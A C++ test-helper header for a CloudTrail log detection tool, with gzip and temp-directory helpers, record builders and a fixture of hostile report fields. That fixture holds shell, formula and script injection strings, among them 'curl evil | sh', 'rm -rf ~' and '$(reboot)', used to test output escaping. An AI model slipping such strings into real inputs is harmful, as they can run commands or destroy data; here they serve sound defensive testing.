#pragma once
// Helpers shared by the tests: gzip in memory, temporary directories, running
// the real binary.
#include <zlib.h>

#include <algorithm>
#include <array>
#include <atomic>
#include <gtest/gtest.h>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <random>
#include <stdexcept>
#include <string>
#include <sys/wait.h>
#include <thread>

#include "trailsweep/parallel_stretches.hpp"

namespace trailsweep::testing {

/// Whether this build runs under ThreadSanitizer (the tsan preset), whose
/// own threads and slow start throw off thread counts and timed tests.
#if defined(__SANITIZE_THREAD__)
inline constexpr bool kThreadSanitizer = true;
#elif defined(__has_feature)
#if __has_feature(thread_sanitizer)
inline constexpr bool kThreadSanitizer = true;
#else
inline constexpr bool kThreadSanitizer = false;
#endif
#else
inline constexpr bool kThreadSanitizer = false;
#endif

/// Threads of this process now (Linux: /proc/self/status), or 0 when unknown
/// (also under ThreadSanitizer, which starts threads of its own when it likes).
inline int process_threads() {
  if (kThreadSanitizer) return 0;
  std::ifstream status("/proc/self/status");
  std::string line;
  while (std::getline(status, line)) {
    if (line.rfind("Threads:", 0) == 0) return std::stoi(line.substr(8));
  }
  return 0;
}

/// While it lives, the system "refuses" thread starts after the first `n`
/// (refuse_thread_starts_after), as a pid limit would.
class ThreadStartsRefused {
 public:
  explicit ThreadStartsRefused(int n) { refuse_thread_starts_after(n); }
  ~ThreadStartsRefused() { refuse_thread_starts_after(-1); }
  ThreadStartsRefused(const ThreadStartsRefused&) = delete;
  ThreadStartsRefused& operator=(const ThreadStartsRefused&) = delete;
};

/// Watches the process's thread count from a thread of its own until
/// stop(), which returns the most it saw (the watcher included): a helper
/// thread that lives a millisecond is seen.
class ThreadCountWatch {
 public:
  // Returns once the watcher has counted at least once: on a loaded machine
  // it may not run before a short test is over, and a count of 0 is no count.
  ThreadCountWatch()
      : watcher_([this] {
          while (!stop_.load()) {
            most_.store(std::max(most_.load(), process_threads()));
            counted_.store(true);
          }
        }) {
    while (!counted_.load()) std::this_thread::yield();
  }
  ~ThreadCountWatch() {
    if (watcher_.joinable()) stop();
  }
  int stop() {
    stop_.store(true);
    watcher_.join();
    return most_.load();
  }

 private:
  std::atomic<bool> stop_{false}, counted_{false};
  std::atomic<int> most_{0};
  std::thread watcher_;
};

inline std::string gzip_bytes(const std::string& data) {
  z_stream s{};
  if (deflateInit2(&s, 6, Z_DEFLATED, 16 + MAX_WBITS, 8, Z_DEFAULT_STRATEGY) != Z_OK) {
    throw std::runtime_error("deflateInit2");
  }
  std::string out(deflateBound(&s, data.size()) + 32, '\0');
  s.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(data.data()));
  s.avail_in = static_cast<uInt>(data.size());
  s.next_out = reinterpret_cast<Bytef*>(out.data());
  s.avail_out = static_cast<uInt>(out.size());
  deflate(&s, Z_FINISH);
  out.resize(s.total_out);
  deflateEnd(&s);
  return out;
}

inline std::string read_file(const std::filesystem::path& p) {
  std::ifstream f(p, std::ios::binary);
  return std::string(std::istreambuf_iterator<char>(f), {});
}

inline void write_file(const std::filesystem::path& p, const std::string& data) {
  std::filesystem::create_directories(p.parent_path());
  std::ofstream f(p, std::ios::binary);
  f << data;
}

/// A fresh directory under the system temp dir, removed at destruction.
class TempDir {
 public:
  TempDir() {
    std::random_device rd;
    path_ = std::filesystem::temp_directory_path() /
            ("trailsweep-test-" + std::to_string(rd()) + std::to_string(rd()));
    std::filesystem::create_directories(path_);
  }
  ~TempDir() {
    std::error_code ec;
    std::filesystem::remove_all(path_, ec);
  }
  const std::filesystem::path& path() const { return path_; }

 private:
  std::filesystem::path path_;
};

struct CommandResult {
  int exit_code = -1;
  std::string out;  ///< stdout
  std::string err;  ///< stderr
};

/// Runs `args` (already shell-quoted) with the real trailsweep binary from the
/// source directory, capturing stdout and stderr.
inline CommandResult run_trailsweep(const std::string& args) {
  TempDir tmp;
  auto out = tmp.path() / "out", err = tmp.path() / "err";
  std::string cmd = std::string("cd '") + TRAILSWEEP_SOURCE_DIR + "' && '" + TRAILSWEEP_BINARY +
                    "' " + args + " >'" + out.string() + "' 2>'" + err.string() + "' </dev/null";
  int status = std::system(cmd.c_str());
  CommandResult r;
  r.exit_code = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
  r.out = read_file(out);
  r.err = read_file(err);
  return r;
}

/// Real record shapes (IAMUser identity from Stratus Red Team's
/// aws.persistence.iam-create-admin-user.json, native key order).
/// `json` (compact) with `spacing` (a newline and indentation) after each
/// '{', '[' and ',' outside strings, as an indenting printer lays it out.
inline std::string indented(const std::string& json, const std::string& spacing = "\n    ") {
  std::string out;
  bool in_string = false, escaped = false;
  for (char c : json) {
    out.push_back(c);
    if (in_string) {
      if (escaped) {
        escaped = false;
      } else if (c == '\\') {
        escaped = true;
      } else if (c == '"') {
        in_string = false;
      }
      continue;
    }
    if (c == '"') in_string = true;
    if (c == '{' || c == '[' || c == ',') out += spacing;
  }
  return out;
}

inline std::string iam_user_record(const std::string& event_name = "CreateUser",
                                   const std::string& time = "2024-08-01T13:33:28Z",
                                   const std::string& event_id = "8c1b2f5e-0e0f-4a8a-9b3b-2f6e8c1d0a11") {
  return R"({"eventVersion":"1.09","userIdentity":{"type":"IAMUser","principalId":"AIDAZ49AHUAJ9OEK73O5","arn":"arn:aws:iam::229654561268:user/christophe","accountId":"229654561268","accessKeyId":"AKIAOZUDECYXYM4ONAN4","userName":"christophe"},"eventTime":")" +
         time + R"(","eventSource":"iam.amazonaws.com","eventName":")" + event_name +
         R"(","awsRegion":"us-east-1","sourceIPAddress":"06.237.252.245","userAgent":"stratus-red-team_4f1b2c3d","requestParameters":{"userName":"malicious-iam-user","tags":[{"key":"StratusRedTeam","value":"true"}]},"responseElements":{"user":{"path":"/","userName":"malicious-iam-user","userId":"AIDAL1XMLVWIUOK8KAF0","arn":"arn:aws:iam::229654561268:user/malicious-iam-user","createDate":"Aug 1, 2024 1:33:28 PM"}},"requestID":"7a4d1c7e-5b1f-4e49-9d52-1c0f0e6c2f3a","eventID":")" +
         event_id +
         R"(","readOnly":false,"eventType":"AwsApiCall","managementEvent":true,"recipientAccountId":"229654561268","eventCategory":"Management","tlsDetails":{"tlsVersion":"TLSv1.3","cipherSuite":"TLS_AES_128_GCM_SHA256","clientProvidedHostHeader":"iam.amazonaws.com"}})";
}

}  // namespace trailsweep::testing

#include <memory>
#include <vector>

#include "trailsweep/byte_source.hpp"
#include "trailsweep/correlator.hpp"
#include "trailsweep/decoder.hpp"
#include "trailsweep/scanner.hpp"
#include "trailsweep/detector.hpp"
#include "trailsweep/finding.hpp"
#include "trailsweep/record_parser.hpp"
#include "trailsweep/reporter.hpp"
#include "trailsweep/rule_loader.hpp"

namespace trailsweep::testing {

/// The decompressed bytes of a gzip file's contents (through the real Decoder).
inline std::string gunzip(const std::string& gz) {
  MemorySource source(gz);
  Decoder decoder(source, UINT64_MAX);
  std::string out;
  char buf[65536];
  for (std::int64_t n; (n = decoder.read(buf, sizeof buf)) > 0;) out.append(buf, static_cast<std::size_t>(n));
  return out;
}

/// Loads rules from YAML text and fails the test on any load error.
inline std::shared_ptr<const RuleSet> rules_from(const std::string& yaml) {
  auto r = load_rules_from_string(yaml, "test.yml");
  for (const auto& e : r.errors) ADD_FAILURE() << e.to_string();
  return r.rules;
}

/// Runs records (JSON texts) through a Detector and the Correlator.
struct Evaluation {
  std::vector<Finding> findings;
  CorrelationResult correlation;
};

inline Evaluation evaluate(const RuleSet& rules, const std::vector<std::string>& records,
                           DetectorOptions options = {}) {
  RecordParser parser;
  Event ev;
  Detector detector(rules, options);
  for (std::size_t i = 0; i < records.size(); ++i) {
    std::string buf = records[i] + std::string(64, ' ');
    RecordView v;
    v.json = std::string_view(buf.data(), records[i].size());
    v.padded_capacity = buf.size();
    v.offset = 0;
    v.index = static_cast<std::int64_t>(i);
    auto outcome = parser.parse(v, &ev);
    if (!outcome.ok) {
      ADD_FAILURE() << "record " << i << ": " << outcome.error;
      continue;
    }
    ev.pos.file = "mem";
    detector.on_event(ev);
  }
  Evaluation e;
  e.findings = detector.take_single_event_findings();
  CorrelatorOptions copts;
  copts.max_evidence = options.max_evidence;
  e.correlation = correlate(rules, detector.take_correlation_hits(), copts);
  for (auto& f : e.correlation.findings) e.findings.push_back(f);
  std::sort(e.findings.begin(), e.findings.end(), finding_before);
  return e;
}

/// Does the single detection rule in `yaml` match `record`?
inline bool rule_matches(const std::string& yaml, const std::string& record) {
  auto rules = rules_from(yaml);
  return !evaluate(*rules, {record}).findings.empty();
}

/// A CloudTrail record built around real field shapes, with overrides spliced in.
inline std::string ct_record(const std::string& time, const std::string& event_name,
                             const std::string& user, const std::string& extra = "",
                             const std::string& account = "111122223333",
                             const std::string& event_source = "ec2.amazonaws.com") {
  static int counter = 0;
  ++counter;
  return R"({"eventVersion":"1.11","userIdentity":{"type":"IAMUser","principalId":"AIDAEXAMPLE","arn":"arn:aws:iam::)" +
         account + ":user/" + user + R"(","accountId":")" + account +
         R"(","accessKeyId":"AKIAEXAMPLE","userName":")" + user + R"("},"eventTime":")" + time +
         R"(","eventSource":")" + event_source + R"(","eventName":")" + event_name +
         R"(","awsRegion":"us-east-1","sourceIPAddress":"203.0.113.7","userAgent":"Boto3/1.40.61","requestID":"r)" +
         std::to_string(counter) + R"(","eventID":"e)" + std::to_string(counter) +
         R"(","readOnly":false,"eventType":"AwsApiCall","managementEvent":true,"recipientAccountId":")" +
         account + R"(")" + (extra.empty() ? "" : "," + extra) + "}";
}

/// Reads `records` (JSON texts) as JSON lines through a Scanner into `sink`,
/// as a scan would; fails the test if any record cannot be read.
inline RunSummary scan_records(EventSink& sink, const std::vector<std::string>& records) {
  std::string lines;
  for (const auto& r : records) lines += r + "\n";
  Scanner scanner(ScanOptions{});
  RunSummary summary;
  MemorySource source(lines);
  scanner.scan_source(source, "mem", sink, summary);
  EXPECT_EQ(summary.errors_total, 0u);
  return summary;
}

/// A finding whose every string field is hostile (terminal escapes, formula
/// prefixes, shell metacharacters, invalid UTF-8, markup), for the reporters.
inline Finding hostile_finding() {
  Finding f;
  f.rule_name = "r";
  f.title = "=HYPERLINK(\"http://evil\")";
  f.level = Level::kCritical;
  f.account = "111122223333";
  f.principal = "arn:aws:iam::111122223333:user/\x1b[31mred\x1b[0m\n[CRITICAL] fake";
  f.access_key_id = "AKIA'; rm -rf ~ #";
  f.user_agents = {"+cmd|' /C calc'!A0", "\x1b]0;owned\x07title", "bad \xff\xfe utf8", "</script><script>alert(1)</script>"};
  f.source_ips = {"@SUM(1+1)*cmd|' /C calc'!A0"};
  f.regions = {"us-east-1"};
  f.resources = {{"iam_user", "x'; curl evil | sh; echo '", ""}, {"ec2_instance", "i-1$(reboot)", "us-east-1"},
                 {"ec2_instance_protected", "i-1$(reboot)", "us-east-1"}};
  f.evidence.push_back({});
  f.evidence.back().set_call("Create\rUser", "", "");
  f.evidence.back().file = "f.json";
  return f;
}


/// Renders with a ReportFlush that keeps each part it is handed, and expects
/// the parts and the rest returned to be what the renderer gives without one,
/// byte for byte, in at least `min_parts` parts of about kReportFlushBytes
/// each (a part goes over by at most the `largest_item` rendered last): what
/// keeps a large report from being held whole. `render(flush)` returns the rest.
template <typename Render>
void expect_written_in_parts(Render&& render, std::size_t min_parts, std::size_t largest_item) {
  const std::string whole = render(ReportFlush{});
  std::vector<std::string> parts;
  const std::string rest = render(ReportFlush([&](const std::string& part) { parts.push_back(part); }));
  EXPECT_GE(parts.size(), min_parts) << "a report of " << whole.size() << " bytes";
  std::string joined;
  for (const auto& part : parts) {
    EXPECT_GE(part.size(), kReportFlushBytes);
    EXPECT_LT(part.size(), kReportFlushBytes + largest_item);
    joined += part;
  }
  EXPECT_LT(rest.size(), kReportFlushBytes + largest_item);
  joined += rest;
  EXPECT_EQ(joined.size(), whole.size());
  EXPECT_TRUE(joined == whole) << "the parts differ from the report rendered whole";
}

}  // namespace trailsweep::testing
